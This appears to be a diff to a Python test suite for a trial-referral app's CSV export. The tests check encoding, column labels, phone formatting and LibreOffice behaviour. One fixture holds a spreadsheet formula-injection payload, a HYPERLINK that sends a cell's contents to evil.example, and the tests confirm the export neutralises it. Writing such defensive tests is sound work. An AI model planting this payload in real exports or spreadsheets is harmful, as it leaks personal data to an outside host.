@@ -176,15 +176,6 @@ def test_the_sms_replies_page_marks_cancelled_replies_and_counts_the_numbers_tha
     assert "13912345678" not in page and "Question 3" not in page
 
 
-def test_csv_export_escapes_formulas(app, protocol):
-    state = referral_state(contact={**referral_state().contact, "contact_preferred_time": "=HYPERLINK(\"x\")"})
-    reference = referrals.create_referral("csv-1", protocol, state)
-    response = logged_in(app).get("/referrals.csv")
-    text = response.get_data(as_text=True)
-    assert response.mimetype == "text/csv" and reference in text
-    assert "'=HYPERLINK" in text
-
-
 def test_audit_log_records_who_opened_and_changed_what(app, referral):
     client = logged_in(app)
     client.get(f"/referrals/{referral}")
@@ -219,8 +210,8 @@ def test_a_chinese_referral_shows_its_language_and_the_volunteers_words_beside_t
     assert protocol.by_id["hiv"].text.replace("≥", "≥") in page  # the registry's English criterion
     assert protocol.in_language("zh").by_id["hiv"].question in page and ">没有</td>" in page
     assert ">中文</td>" in client.get("/").get_data(as_text=True)
-    rows = list(csv.reader(io.StringIO(client.get("/referrals.csv").get_data(as_text=True))))
-    assert rows[0][3] == "language" and rows[1][3] == "zh"
+    rows = list(csv.reader(io.StringIO(client.get("/referrals.csv").get_data().decode("utf-8-sig"))))
+    assert rows[0][3] == "Language" and rows[1][3] == "中文"
 
 
 def test_the_translations_page_lists_what_awaits_approval(app, protocol):
@@ -572,3 +563,152 @@ def test_users_add_command_takes_a_role_and_users_role_changes_it(database, caps
         main(["users", "add", "x", "--role", "boss", "--password-stdin"])
     assert users_command("role", "nobody", "admin") == 2
 
+
+# Issue 17, item 5: the CSV for spreadsheets.
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+
+
+@pytest.fixture
+def chinese_sms_referral(app, protocol):
+    from dataclasses import replace as with_
+    answers = {**referral_state().answers, "hiv": RecordedAnswer("no", "没有"),
+               "age": RecordedAnswer(52, "我今年52岁"), "autoimmune": RecordedAnswer("no", "No")}
+    state = with_(referral_state(answers=answers, contact={**referral_state().contact, "contact_name": "王芳",
+                                                           "contact_preferred_time": HYPERLINK}), language="zh")
+    reference = referrals.create_referral("sms-5f2a9c", protocol, state)
+    client = logged_in(app)
+    client.post(f"/referrals/{reference}", data={"status": "contacted", "note": "Left a voicemail, 下午再打",
+                                                 "csrf_token": csrf(client, f"/referrals/{reference}")})
+    client.post(f"/referrals/{reference}", data={"status": "contacted", "note": "-1 day: she asked to wait",
+                                                 "csrf_token": csrf(client, f"/referrals/{reference}")})
+    return reference
+
+
+def exported(client):
+    response = client.get("/referrals.csv")
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    assert response.headers["Content-Disposition"] == "attachment; filename=referrals.csv"
+    return response.get_data()
+
+
+def test_the_csv_opens_in_a_spreadsheet_with_plain_labels_answers_in_words_and_notes(app, protocol,
+                                                                                     chinese_sms_referral):
+    raw = exported(logged_in(app))
+    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark, which Excel needs to show Chinese
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    assert len(rows) == 1
+    header = list(rows[0])
+    assert header[:17] == ["Reference", "Received (Asia/Shanghai)", "Trial", "Language", "Channel", "Verdict",
+                           "Status", "Not sure (how many)", "Not sure about", "Name", "Phone", "E-mail",
+                           "Preferred way", "Preferred time", "Sent to the study team", "Notes", "Contact attempts"]
+    assert header[17:] == [c.short for c in protocol.questions]  # one column per criterion, by its short text
+    row = rows[0]
+    assert row["Reference"] == chinese_sms_referral and re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d",
+                                                                     row["Received (Asia/Shanghai)"])
+    assert (row["Language"], row["Channel"], row["Verdict"], row["Status"]) == ("中文", "SMS", "Needs review",
+                                                                                 "Contacted")
+    assert row["Not sure (how many)"] == "1" and row["Not sure about"] == protocol.by_id["blood_counts"].short
+    assert row["Name"] == "王芳" and row["Preferred way"] == "E-mail or phone" and row["E-mail"] == "ana@example.com"
+    assert row["Phone"] == "(+86) 138 0013 8000"  # no apostrophe, no lost digits, not a formula
+    assert row["Preferred time"] == "'" + HYPERLINK  # the volunteer's formula, neutralised
+    assert row["Sent to the study team"] == "waiting" and row["Contact attempts"] == ""
+    short = {c.id: c.short for c in protocol.questions}
+    assert row[short["hiv"]] == 'No ("没有")' and row[short["age"]] == '52 ("我今年52岁")'
+    assert row[short["autoimmune"]] == "No" and row[short["blood_counts"]] == 'Not sure ("no idea")'
+    notes = row["Notes"].split("\n")
+    assert len(notes) == 2 and re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d maria: New → Contacted: "
+                                            r"Left a voicemail, 下午再打", notes[0])
+    assert notes[1].endswith(" maria: -1 day: she asked to wait")
+    for cells in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")):  # no cell can start a formula
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")], cells
+    assert "in_progress" not in raw.decode() and "needs_review" not in raw.decode()
+    # every field in double quotes (OWASP): a ; or , inside a field never starts a cell in any locale
+    assert raw.decode("utf-8-sig").startswith('"Reference","Received (Asia/Shanghai)",')
+    assert "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Click\"\")\"" in raw.decode()
+    assert ("maria", "export_csv", "1 referrals") in audit_rows()
+
+
+def test_csv_phone_numbers_read_as_the_number_and_never_as_a_formula():
+    from bot.review.spreadsheet import cell, channel, phone_cell
+    assert phone_cell("+8613912345678") == "(+86) 139 1234 5678"
+    assert phone_cell("+12015550123") == "(+1) 201-555-0123"
+    assert phone_cell("+442079460958") == "(+44) 20 7946 0958"
+    assert phone_cell(None) == "" and phone_cell("=1+2") == "'=1+2" and phone_cell("+1") == "'+1"
+    for number in ("+8613912345678", "+12015550123", "+442079460958"):
+        shown = phone_cell(number)
+        assert shown[0] == "(" and re.sub(r"\D", "", shown) == number[1:]
+        with pytest.raises(ValueError):
+            float(shown.replace(" ", ""))
+    assert cell("＝1+2") == "'＝1+2" and cell("-3") == "'-3" and cell("@SUM(A1)") == "'@SUM(A1)" and cell(52) == "52"
+    assert [channel(s) for s in ("web-1", "sms-2", "wx-3", "volunteer-4")] == ["web chat", "SMS", "WeChat",
+                                                                                "other (REST)"]
+
+
+def test_csv_referrals_of_several_trials_each_fill_their_own_trials_columns(app, protocol, chinese_sms_referral):
+    other = store.Referral(reference="RF-OTHR-0001", sender_id="web-other", trial_id="NCT09999999", protocol_version=1,
+                           verdict="likely_eligible", flags=[], doctor_checklist=[], contact_name="Li Lei",
+                           contact_phone="+12015550123", contact_preferred_way="phone", language="en",
+                           answers=[{"criterion_id": "migraine_days", "criterion_text": "4 to 14 migraine days a month",
+                                     "question": "…", "answer": "yes", "text": "about 6 a month"}])
+    with store.unit_of_work() as db:
+        db.add(other)
+    rows = list(csv.DictReader(io.StringIO(exported(logged_in(app)).decode("utf-8-sig"), newline="")))
+    by_reference = {r["Reference"]: r for r in rows}
+    hiv, migraine = f"{protocol.by_id['hiv'].short} (NCT04143984)", "4 to 14 migraine days a month (NCT09999999)"
+    assert by_reference["RF-OTHR-0001"][migraine] == 'Yes ("about 6 a month")'
+    assert by_reference["RF-OTHR-0001"][hiv] == "" and by_reference[chinese_sms_referral][migraine] == ""
+    assert by_reference[chinese_sms_referral][hiv] == 'No ("没有")'
+    assert by_reference["RF-OTHR-0001"]["Channel"] == "web chat" and by_reference["RF-OTHR-0001"]["Phone"] == "(+1) 201-555-0123"
+
+
+def xlsx_cells(path):
+    """The cells of the first sheet of an .xlsx file: {"A1": ("s", text) or ("n", value) or ("f", formula)}."""
+    import zipfile
+    from xml.etree import ElementTree
+
+    ns = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+    with zipfile.ZipFile(path) as book:
+        shared = ["".join(t.text or "" for t in si.iter(f"{{{ns['x']}}}t"))
+                  for si in ElementTree.fromstring(book.read("xl/sharedStrings.xml")).findall("x:si", ns)]
+        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
+    cells = {}
+    for c in sheet.iter(f"{{{ns['x']}}}c"):
+        formula, value = c.find("x:f", ns), c.find("x:v", ns)
+        if formula is not None:
+            cells[c.get("r")] = ("f", formula.text)
+        elif c.get("t") == "s":
+            cells[c.get("r")] = ("s", shared[int(value.text)])
+        elif value is not None:
+            cells[c.get("r")] = ("n", value.text)
+    return cells
+
+
+def libreoffice_opens(csv_path, tmp_path):
+    """LibreOffice Calc reads the CSV as UTF-8 (its formulas evaluated, as by default) and saves it as .xlsx."""
+    import shutil
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        pytest.skip("SKIPPED: LibreOffice is not installed (apt-get install libreoffice-calc)")
+    done = subprocess.run([soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/lo-profile",
+                           "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path),
+                           str(csv_path)], capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0, done.stderr
+    return xlsx_cells(tmp_path / (csv_path.stem + ".xlsx"))
+
+
+def test_libreoffice_shows_the_phone_as_the_number_and_runs_no_formula_from_the_csv(app, tmp_path,
+                                                                                    chinese_sms_referral):
+    control = tmp_path / "control.csv"  # the same reader does run a formula that is not neutralised
+    control.write_text('"a","b"\r\n"=1+2","+86 139 1234 5678"\r\n', encoding="utf-8")
+    assert libreoffice_opens(control, tmp_path)["A2"] == ("f", "1+2")
+
+    path = tmp_path / "referrals.csv"
+    path.write_bytes(exported(logged_in(app)))
+    cells = libreoffice_opens(path, tmp_path)
+    header = {text: ref[:-1] for ref, (kind, text) in cells.items() if ref.endswith("1") and ref[-2].isalpha()}
+    assert cells["A1"] == ("s", "Reference")  # the byte-order mark is not part of the first label
+    assert cells[header["Phone"] + "2"] == ("s", "(+86) 138 0013 8000")
+    assert cells[header["Preferred time"] + "2"] == ("s", "'" + HYPERLINK)
+    assert cells[header["Language"] + "2"] == ("s", "中文")
+    assert not [ref for ref, (kind, _) in cells.items() if kind == "f"]
